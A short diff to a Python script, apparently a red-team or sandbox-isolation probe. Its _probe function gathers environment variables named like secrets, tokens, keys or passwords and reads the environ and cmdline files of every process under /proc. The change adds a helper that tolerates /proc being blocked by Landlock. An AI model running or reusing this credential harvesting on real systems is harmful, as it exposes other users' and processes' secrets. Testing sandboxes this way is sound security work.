@@ -7,9 +7,17 @@ import torch
 WANTED = ("SECRET", "TOKEN", "KEY", "PASSWORD", "AWS", "GITHUB", "REDTEAM")
 
 
+def _pids() -> list[str]:
+    """Every process /proc lists (none where /proc cannot be listed: the unprivileged tier's Landlock)."""
+    try:
+        return os.listdir("/proc")
+    except OSError:
+        return []
+
+
 def _probe() -> str:
     found = [f"{k}={v}" for k, v in os.environ.items() if any(w in k.upper() for w in WANTED)]
-    for pid in os.listdir("/proc"):
+    for pid in _pids():
         if not pid.isdigit():
             continue
         for name in ("environ", "cmdline"):
